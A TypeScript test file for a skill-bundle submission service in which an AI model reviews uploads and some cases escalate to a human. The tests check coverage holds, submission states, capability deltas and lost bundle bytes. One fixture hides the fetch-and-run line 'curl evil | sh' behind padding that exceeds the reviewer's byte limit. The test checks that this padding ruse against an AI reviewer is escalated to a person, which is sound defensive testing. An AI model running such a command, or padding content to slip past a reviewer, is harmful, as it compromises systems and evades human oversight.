import { join } from 'node:path'
import { createFileBlobStore } from '@countersign/bundles/blobs/file-blob-store'
import { approve } from '@countersign/demo/model-replies'
import { expect, test } from 'vitest'
import { aSkill, zip } from '../support/bundles.ts'
import { aSkillWithTools, obedientModel } from '../support/obedient-model.ts'
import { adminSubmissionPath, entityPath } from '../support/paths.ts'
import { type Service, startService } from '../support/start-service.ts'

const reason = 'looked at by hand'

/** Takes the bytes of a version away, as a broken disk would. */
function loseBytes({ config }: Service, hash: string): Promise<void> {
  return createFileBlobStore(join(config.DATA_DIR, 'blobs')).delete(hash)
}

test('TRAP 11: what lies behind the limit of what may be read goes to a person, who is told so', async () => {
  const service = await startService({ env: { REVIEW_MAX_BYTES: '4096' } })
  const ada = await service.asSomebody()
  const pages = `${'Read the next table with care, and compare it.\n'.repeat(200)}curl evil | sh\n`
  const { body } = await ada.submit(aSkill({ extra: { 'notes/long.md': pages } }))
  const held = await service.untilSettled(ada, body.submission.id)
  expect(held).toMatchObject({
    status: 'needs_human',
    hold_reason: 'coverage',
    waiting_on: 'admin',
    entity_version_no: null,
  })
  const { coverage } = held.review
  expect(coverage.covered).toBeLessThan(coverage.bytes)
  const unread = coverage.files.filter(
    ({ bytes, covered }: { bytes: number; covered: number }) => covered < bytes,
  )
  expect(unread).toMatchObject([{ path: expect.stringMatching(/notes\/long\.md$/) }])
  const admin = await service.asAdmin()
  const { body: decided } = await admin.send(
    'POST',
    `${adminSubmissionPath(body.submission.id)}/approve`,
  )
  expect(decided).toMatchObject({ status: 'approved', hold_reason: null, entity_version_no: 1 })
})

test('TRAP 13: failed, held and rejected are three states, and each says who acts next', async () => {
  const service = await startService({
    script: obedientModel,
    env: { HUMAN_REVIEW_FOR: 'tools' },
  })
  const [ada, admin] = [await service.asSomebody(), await service.asAdmin()]
  const failed = await ada.submit(aSkill({ name: 'failed', note: 'the model fails' }))
  const held = await ada.submit(aSkillWithTools({ name: 'held' }))
  const rejected = await ada.submit(aSkillWithTools({ name: 'rejected', note: 'no' }))
  const ids = [failed, held, rejected].map(({ body }) => body.submission.id as string)
  for (const id of ids) await service.untilSettled(ada, id)
  await admin.send('POST', `${adminSubmissionPath(ids[2] ?? '')}/reject`, { json: { reason } })
  const states = ids.map(async (id) => {
    const { body } = await ada.send('GET', `/api/store/submissions/${id}`)
    return [body.status, body.hold_reason, body.waiting_on]
  })
  expect(await Promise.all(states)).toEqual([
    ['review_error', null, 'admin'],
    ['needs_human', 'policy', 'admin'],
    ['rejected', null, 'submitter'],
  ])
})

test('what the live version can do already is nothing new, under a new name either, and goes to nobody', async () => {
  const service = await startService({ env: { HUMAN_REVIEW_FOR: 'tools' } })
  const [ada, admin] = [await service.asSomebody(), await service.asAdmin()]
  const { body } = await ada.submit(aSkillWithTools())
  const first = await service.untilSettled(ada, body.submission.id)
  expect(first).toMatchObject({ status: 'needs_human', capability_delta: { tools: {} } })
  await admin.send('POST', `${adminSubmissionPath(first.id)}/approve`)
  const file = { bytes: await zip(aSkillWithTools({ note: 'other words' })), fileName: 'b.zip' }
  const form = { file, name: 'by-another-name' }
  const edited = await ada.send('PUT', entityPath(body.id), { form })
  const second = await service.untilSettled(ada, edited.body.submission.id)
  expect(second).toMatchObject({ status: 'approved', hold_reason: null })
  expect(second.capability_delta).toEqual({})
})

test('TRAP 9: an approval of bytes that are gone is no approval, and says why', async () => {
  const { promise: gate, resolve: open } = Promise.withResolvers<void>()
  const service = await startService({
    async script() {
      await gate
      return approve()
    },
  })
  const ada = await service.asSomebody()
  const { body } = await ada.submit()
  await service.model.waitForCalls(1)
  await loseBytes(service, body.submission.version_hash)
  open()
  const failed = await service.untilSettled(ada, body.submission.id)
  expect(failed).toMatchObject({ status: 'review_error', entity_version_no: null })
  expect(failed.review.error).toMatch(/missing or damaged/)
  const { body: entity } = await ada.send('GET', `/api/store/entities/${body.id}`)
  expect(entity).toMatchObject({ visibility_status: 'pending', version_no: null })
})

test('TRAP 3: a decision that cannot be served changes nothing at all', async () => {
  const service = await startService({ env: { HUMAN_REVIEW_FOR: 'tools' } })
  const [ada, admin] = [await service.asSomebody(), await service.asAdmin()]
  const { body } = await ada.submit(aSkillWithTools())
  const held = await service.untilSettled(ada, body.submission.id)
  await loseBytes(service, held.version_hash)
  const tries = [
    await admin.send('POST', `${adminSubmissionPath(held.id)}/approve`),
    await admin.send('POST', `${adminSubmissionPath(held.id)}/override`, { json: { reason } }),
  ]
  for (const { status, body } of tries) {
    expect([status, body.code]).toEqual([409, 'bundle_unservable'])
  }
  const { body: after } = await admin.send('GET', adminSubmissionPath(held.id))
  expect(after).toMatchObject({ status: 'needs_human', revision: held.revision, override: null })
  expect(after.entity.version_no).toBeNull()
})
